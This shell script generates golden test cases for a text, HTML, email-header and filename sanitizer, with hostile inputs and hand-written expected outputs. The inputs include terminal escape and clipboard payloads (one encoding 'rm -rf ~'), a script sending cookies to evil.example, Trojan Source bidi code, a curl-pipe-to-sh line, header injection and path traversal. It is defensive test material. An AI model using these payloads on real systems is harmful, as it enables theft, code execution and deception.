#!/bin/sh
# generate.sh - write the golden sanitizer cases: NAME.in (input bytes) and
# NAME.ref (the output wanted, written by hand from the rules of DESIGN.md
# "Sanitized copy" and include/psirt/sanitize.h, not copied from a run).
# The file name prefix picks the function (tests/lib/golden-sanitize.c):
# text- sanitize_text, html- sanitize_html_to_text, header- sanitize_header
# (max 998), filename- sanitize_filename on each line.
# Bytes that are not printable ASCII are octal escapes for printf(1), so
# no control or bidi character is ever in this file itself.
#
# usage: sh generate.sh [DIR]    (default: next to this script)
set -eu
dir=${1:-$(dirname "$0")}

# start NAME - begin a case: empty NAME.in and NAME.ref
start() {
	cur=$1
	: >"$dir/$cur.in"
	: >"$dir/$cur.ref"
}

# input FORMAT, want FORMAT - append bytes (printf escapes) to the case
input() {
	printf -- "$1" >>"$dir/$cur.in"
}
want() {
	printf -- "$1" >>"$dir/$cur.ref"
}

# ESC/CSI sequences: the ESC goes, the rest is plain text
start text-esc-csi
input 'clear: \033[2J\033[H|color: \033[31mred\033[0m|bold: \033[1;32mgre'
input 'en\033[m\n'
input 'up: \033[10A|alt screen: \033[?1049h|query: \033[6n\n'
input 'hidden: \033[8msecret\033[28m|reset: \033c|dcs: \033P1$r\033\\|end'
input '\n'
want 'clear: [2J[H|color: [31mred[0m|bold: [1;32mgreen[m\n'
want 'up: [10A|alt screen: [?1049h|query: [6n\n'
want 'hidden: [8msecret[28m|reset: c|dcs: P1$r\\|end\n'
want '\n'
want '--- flags: control-characters\n'

# OSC title, hyperlink and clipboard: ESC and BEL go
start text-osc
input 'title: \033]0;evil title\007|clip: \033]52;c;cm0gLXJmIH4=\007\n'
input 'link: \033]8;;http://evil.example/\033\\click\033]8;;\033\\|end\n'
want 'title: ]0;evil title|clip: ]52;c;cm0gLXJmIH4=\n'
want 'link: ]8;;http://evil.example/\\click]8;;\\|end\n'
want '\n'
want '--- flags: control-characters\n'

# C1 controls as UTF-8 go; as raw bytes they are invalid
start text-c1
input 'csi: \302\2332J|osc: \302\2350;t\302\234|nel: a\302\205b|dcs: \302'
input '\220x\n'
input 'raw csi: \2332J|raw osc: \2350;t\234|end\n'
want 'csi: 2J|osc: 0;t|nel: ab|dcs: x\n'
want 'raw csi: �2J|raw osc: �0;t�|end\n'
want '\n'
want '--- flags: invalid-utf8,control-characters\n'

# every bidi control made visible
start text-bidi
input 'RLO: a\342\200\256b|LRO: a\342\200\255b|PDF: \342\200\254|LRE: '
input '\342\200\252|RLE: \342\200\253\n'
input 'LRI: \342\201\246x\342\201\251|RLI: \342\201\247x\342\201\251|FSI:'
input ' \342\201\250x\342\201\251\n'
input 'LRM: \342\200\216|RLM: \342\200\217|ALM: \330\234|end\n'
want 'RLO: a<U+202E>b|LRO: a<U+202D>b|PDF: <U+202C>|LRE: <U+202A>|RLE: <'
want 'U+202B>\n'
want 'LRI: <U+2066>x<U+2069>|RLI: <U+2067>x<U+2069>|FSI: <U+2068>x<U+206'
want '9>\n'
want 'LRM: <U+200E>|RLM: <U+200F>|ALM: <U+061C>|end\n'
want '\n'
want '--- flags: bidi-controls\n'

# zero-width and other invisible characters visible
start text-zero-width
input 'zwsp: a\342\200\213b|zwnj: a\342\200\214b|zwj: a\342\200\215b|wj: '
input 'a\342\201\240b\n'
input 'bom: \357\273\277x|shy: pay\302\255pal|invisible times: a\342\201'
input '\242b\n'
input 'tag: \363\240\201\201|hangul filler: \343\205\244|vs16: \342\235'
input '\244\357\270\217|end\n'
want 'zwsp: a<U+200B>b|zwnj: a<U+200C>b|zwj: a<U+200D>b|wj: a<U+2060>b\n'
want 'bom: <U+FEFF>x|shy: pay<U+00AD>pal|invisible times: a<U+2062>b\n'
want 'tag: <U+E0041>|hangul filler: <U+3164>|vs16: ❤<U+FE0F>|end\n'
want '\n'
want '--- flags: control-characters\n'

# Trojan Source (CVE-2021-42574) C code
start text-trojan-source
input '#include <stdio.h>\n'
input '#include <stdbool.h>\n'
input '\n'
input 'int main() {\n'
input '\011bool isAdmin = false;\n'
input '\011/*\342\200\256 } \342\201\246if (isAdmin)\342\201\251 \342\201'
input '\246 begin admins only */\n'
input '\011\011printf("You are an admin.\\n");\n'
input '\011/* end admins only \342\200\256 { \342\201\246*/\n'
input '\011if (accessLevel != "user\342\200\256 \342\201\246// Check if a'
input 'dmin\342\201\251 \342\201\246") {\n'
input '\011\011return 1;\n'
input '\011}\n'
input '\011return say\320\235ello();\n'
input '}\n'
want '#include <stdio.h>\n'
want '#include <stdbool.h>\n'
want '\n'
want 'int main() {\n'
want '\tbool isAdmin = false;\n'
want '\t/*<U+202E> } <U+2066>if (isAdmin)<U+2069> <U+2066> begin admins '
want 'only */\n'
want '\t\tprintf("You are an admin.\\n");\n'
want '\t/* end admins only <U+202E> { <U+2066>*/\n'
want '\tif (accessLevel != "user<U+202E> <U+2066>// Check if admin<U+206'
want '9> <U+2066>") {\n'
want '\t\treturn 1;\n'
want '\t}\n'
want '\treturn sayНello();\n'
want '}\n'
want '\n'
want '--- flags: bidi-controls\n'

# invalid UTF-8: one U+FFFD per byte not decoded
start text-invalid-utf8
input 'lone continuation: \200\277|truncated 2: \303|truncated 3: \342'
input '\202|\n'
input 'truncated 4: \360\237\230|fe ff: \376\377|5-byte: \370\210\200\200'
input '\200|\n'
input '6-byte: \374\204\200\200\200\200|too big: \364\220\200\200|f5: '
input '\365\200\200\200|\n'
input 'c0 c1: \300\301|valid after: \303\251\n'
want 'lone continuation: ��|truncated 2: �|truncated 3: ��|\n'
want 'truncated 4: ���|fe ff: ��|5-byte: �����|\n'
want '6-byte: ������|too big: ����|f5: ����|\n'
want 'c0 c1: ��|valid after: é\n'
want '\n'
want '--- flags: invalid-utf8\n'

# overlong encodings are invalid; shortest forms kept
start text-overlong
input 'slash 2: \300\257|slash 3: \340\200\257|slash 4: \360\200\200\257'
input '\n'
input 'nul: \300\200|lt: \300\274|esc: \300\233|max 2: \301\277\n'
input 'max 3: \340\237\277|max 4: \360\217\277\277\n'
input 'shortest: \302\240|\340\240\200|\360\220\200\200|\n'
want 'slash 2: ��|slash 3: ���|slash 4: ����\n'
want 'nul: ��|lt: ��|esc: ��|max 2: ��\n'
want 'max 3: ���|max 4: ����\n'
want 'shortest:  |ࠀ|𐀀|\n'
want '\n'
want '--- flags: invalid-utf8\n'

# UTF-16 surrogates encoded in UTF-8 (and CESU-8)
start text-surrogates
input 'd800: \355\240\200|dbff: \355\257\277|dc00: \355\260\200|dfff: '
input '\355\277\277\n'
input 'cesu-8 pair: \355\240\275\355\270\200\n'
input 'neighbours kept: \355\237\277|\356\200\200\n'
want 'd800: ���|dbff: ���|dc00: ���|dfff: ���\n'
want 'cesu-8 pair: ������\n'
want 'neighbours kept: ퟿|\n'
want '\n'
want '--- flags: invalid-utf8\n'

# NUL bytes removed wherever they are
start text-nul
input '\000start|mid\000dle|\000\000\000|end\000\n'
input '\000'
want 'start|middle||end\n'
want '\n'
want '--- flags: control-characters\n'

# CRLF and lone CR become LF; LF CR is two breaks
start text-crlf
input 'crlf\015\n'
input 'lf\n'
input 'cr\015lf cr\n'
input '\015cr cr lf\015\015\n'
input 'space cr \015\n'
input 'trailing cr\015'
want 'crlf\n'
want 'lf\n'
want 'cr\n'
want 'lf cr\n'
want '\n'
want 'cr cr lf\n'
want '\n'
want 'space cr \n'
want 'trailing cr\n'
want '\n'
want '--- flags: \n'

# valid text of many scripts passes unchanged
start text-multilingual
input '\320\237\321\200\320\270\320\262\320\265\321\202, \320\274\320\270'
input '\321\200. \316\223\316\265\316\271\316\254 \317\203\316\277\317'
input '\205. \344\275\240\345\245\275\357\274\214\344\270\226\347\225\214'
input '\343\200\202\n'
input '\331\205\330\261\330\255\330\250\330\247 \330\250\330\247\331\204'
input '\330\271\330\247\331\204\331\205. \327\251\327\234\327\225\327\235'
input '.\n'
input 'e\314\201 caf\303\251 \360\237\230\200 \342\235\244 tab\011here '
input '\302\240nbsp\n'
want 'Привет, мир. Γειά σου. 你好，世界。\n'
want 'مرحبا بالعالم. שלום.\n'
want 'é café 😀 ❤ tab\there  nbsp\n'
want '\n'
want '--- flags: \n'

# HTML: script, style, head, comments dropped
start html-script-style
input '<!DOCTYPE html>\n'
input '<html><head><title>Invoice</title>\n'
input '<style>body { display: none }</style>\n'
input '<script>document.location=\047http://evil.example/?c=\047+document'
input '.cookie</script>\n'
input '</head>\n'
input '<body onload="alert(1)">\n'
input '<!-- hidden comment with <b>tags</b> -->\n'
input '<h1>Report</h1>\n'
input '<p>Visible <b>bold</b> and <i>italic</i> text.</p>\n'
input '<script type="text/javascript">\n'
input '  var x = "</scr" + "ipt>";\n'
input '</script>\n'
input '<p>After script.</p>\n'
input '<style>p{}</style>\n'
input '</body></html>\n'
want 'Report\n'
want '\n'
want 'Visible bold and italic text.\n'
want '\n'
want 'After script.\n'
want '\n'
want '--- flags: \n'

# HTML: entities decoded, then the text rules
start html-entities
input '<p>&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;</p>\n'
input '<p>caf&eacute; &amp; cr&egrave;me &copy; 2026 &mdash; &euro;5 &hel'
input 'lip;</p>\n'
input '<p>numeric: &#65;&#x42;&#x63; &#233; &#x1F600;</p>\n'
input '<p>bad: &#0; &#xD800; &#x110000; &#1114112; &#xFFFFFFFFFF;</p>\n'
input '<p>hidden: &#27;[2J &#x1b;]0;t&#7; &#155;1m &#x202E;txt.exe &#8203'
input ';zw</p>\n'
input '<p>unknown: &bogus; &amp &#; &#x;</p>\n'
want '<script>alert("x")</script>\n'
want '\n'
want 'café & crème © 2026 \342\200\224 €5 \342\200\246\n'
want '\n'
want 'numeric: ABc é 😀\n'
want '\n'
want 'bad: � � � � �\n'
want '\n'
want 'hidden: [2J ]0;t 1m <U+202E>txt.exe <U+200B>zw\n'
want '\n'
want 'unknown: &bogus; &amp &#; &#x;\n'
want '\n'
want '--- flags: bidi-controls,control-characters\n'

# HTML: block tags as line breaks, white space collapsed
start html-blocks
input '<div>first div</div><div>second div</div>\n'
input '<ul><li>one</li><li>two</li></ul>\n'
input '<ol><li>three</li></ol>\n'
input '<table><tr><th>h1</th><th>h2</th></tr><tr><td>a</td><td>b</td></tr'
input '></table>\n'
input 'line<br>break<br><br><br>many breaks\n'
input '<pre>\n'
input '  keep   this\n'
input '    indent\n'
input '</pre>\n'
input '<blockquote>quoted</blockquote>\n'
input 'text   with    spaces\n'
input 'and\011tabs\n'
want 'first div\n'
want 'second div\n'
want '\n'
want 'one\n'
want 'two\n'
want '\n'
want 'three\n'
want '\n'
want 'h1 h2\n'
want 'a b\n'
want '\n'
want 'line\n'
want 'break\n'
want '\n'
want 'many breaks\n'
want '\n'
want '  keep   this\n'
want '    indent\n'
want '\n'
want 'quoted\n'
want '\n'
want 'text with spaces and tabs\n'
want '\n'
want '--- flags: \n'

# one header line: no CR/LF/TAB, no controls
start header-injection
input '  Report\015\n'
input 'Bcc: victim@example.test\015\n'
input '\011X-Evil: 1 \033[2J \342\200\256 gpj.exe  \377 end\011\n'
want 'Report Bcc: victim@example.test X-Evil: 1 [2J <U+202E> gpj.exe � e'
want 'nd\n'
want '--- flags: invalid-utf8,bidi-controls,control-characters\n'

# a long header cut at 998 bytes on a character boundary
start header-long
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
input 'aaaa\303\251bbbbbbbbbb'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
want 'aaaa...\n'
want '--- flags: \n'

# file names, one per line (index = line number)
start filename-names
input '../../etc/passwd\n'
input 'C:\\Windows\\System32\\evil.exe\n'
input '..\n'
input '.htaccess\n'
input '...hidden\n'
input 'invoice\342\200\256gpj.exe\n'
input '\033[31mred.txt\n'
input 'dir/\n'
input 'report final.pdf\n'
input '  spaced  \n'
input '\342\200\213zero.txt\n'
input '\377bad.txt\n'
input 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'
input 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'
input 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'
input 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.pdf\n'
input 'tab\011here.txt\n'
want 'passwd\n'
want 'evil.exe\n'
want 'attachment-3\n'
want 'htaccess\n'
want 'hidden\n'
want 'invoicegpj.exe\n'
want '[31mred.txt\n'
want 'attachment-8\n'
want 'report final.pdf\n'
want 'spaced\n'
want 'zero.txt\n'
want '�bad.txt\n'
want 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'
want 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'
want 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'
want 'xx\n'
want 'tab here.txt\n'

# the other C0 controls and DEL go: backspace over text, BEL, VT, FF, the
# VT100 charset shifts SO/SI, every other C0 byte
start text-c0
input 'bs: safe\010\010\010\010evil|bel: ding\007|vt: a\013b|ff: a\014b\n'
input 'so si: \016lqqk\017|del: x\177y|cr tricks kept as breaks\n'
input 'all: \001\002\003\004\005\006\020\021\022\023\024\025\026\027\030'
input '\031\032\034\035\036\037|end\n'
want 'bs: safeevil|bel: ding|vt: ab|ff: ab\n'
want 'so si: lqqk|del: xy|cr tricks kept as breaks\n'
want 'all: |end\n'
want '\n'
want '--- flags: control-characters\n'

# line and paragraph separators, interlinear annotations, the deprecated
# format characters: visible; NEL (C1) goes
start text-separators
input 'ls: a\342\200\250b|ps: a\342\200\251b|nel: a\302\205b\n'
input 'annotation: \357\277\271base\357\277\272ruby\357\277\273|iss: '
input '\342\201\252x\342\201\257|end\n'
want 'ls: a<U+2028>b|ps: a<U+2029>b|nel: ab\n'
want 'annotation: <U+FFF9>base<U+FFFA>ruby<U+FFFB>|iss: <U+206A>x<U+206F>'
want '|end\n'
want '\n'
want '--- flags: control-characters\n'

# Trojan Source in a proof of concept: a shell line whose RLO hides what
# runs, a Python check whose isolates move the return, a homoglyph kept
start text-trojan-poc
input '$ curl -s https://victim.example/x | sh #\342\200\256 hs | x/elpm'
input 'axe.mitciv//:sptth s- lruc\342\200\254\n'
input 'def is_admin(user):\n'
input '    """\342\200\256 """ ; return True ; """\342\201\246"""\n'
input '    return user == "\320\260dmin"\n'
want '$ curl -s https://victim.example/x | sh #<U+202E> hs | x/elpmaxe.mi'
want 'tciv//:sptth s- lruc<U+202C>\n'
want 'def is_admin(user):\n'
want '    """<U+202E> """ ; return True ; """<U+2066>"""\n'
want '    return user == "\320\260dmin"\n'
want '\n'
want '--- flags: bidi-controls\n'

# one header line with every terminal trick: OSC title and BEL, C1 CSI,
# isolates, zero width, NUL, backspace, overlong and raw C1 ESC, DEL
start header-terminal
input 'Subject \033]0;pwned\007 \302\2332J \342\201\246iso\342\201\251 a'
input '\342\200\213b n\000ul b\010s \300\233[2J \2332J d\177el\n'
want 'Subject ]0;pwned 2J <U+2066>iso<U+2069> a<U+200B>b nul bs \357\277'
want '\275\357\277\275[2J \357\277\2752J del\n'
want '--- flags: invalid-utf8,bidi-controls,control-characters\n'
